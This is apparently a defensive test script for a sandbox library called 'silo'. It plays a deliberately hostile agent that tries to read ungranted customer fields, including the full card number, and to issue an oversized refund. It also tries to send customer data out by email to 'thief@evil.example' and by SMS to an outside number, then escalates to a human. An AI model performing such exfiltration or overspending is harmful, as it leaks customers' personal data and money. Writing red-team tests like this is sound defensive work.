"""Hostile on purpose: tries to exfiltrate personal data and to overspend. Every attempt
is refused by the membrane, and what it did get is tokenised; it hands the case to a
person with a list of what it saw."""

import silo

seen = []


def attempt(what, fn):
    try:
        got = fn()
        seen.append(f"{what}: got {got}")
    except silo.MembraneError as e:
        seen.append(f"{what}: refused ({e.code})")


attempt("read the customer's name", lambda: silo.data.customer(["name"]))
attempt("read the email it was not granted", lambda: silo.data.customer(["email"]))
attempt("read the full card number", lambda: silo.data.customer(["card_number"]))
attempt("refund $9,999", lambda: silo.refund(999900, "because", idempotency_key="hostile-1"))
attempt("mail the customer's data to itself",
        lambda: silo.email.send("refund_confirmation", "thief@evil.example",
                                {"order_id": "x", "amount": "x", "refund_id": "x"}))
attempt("text it to an outside number",
        lambda: silo.sms.send("refund_confirmation", "+1 555 666 0000",
                              {"order_id": "x", "amount": "x", "refund_id": "x"}))
for line in seen:
    print("hostile-agent:", line)
silo.escalate("human", "I could not do what I wanted", "; ".join(seen)[:900])
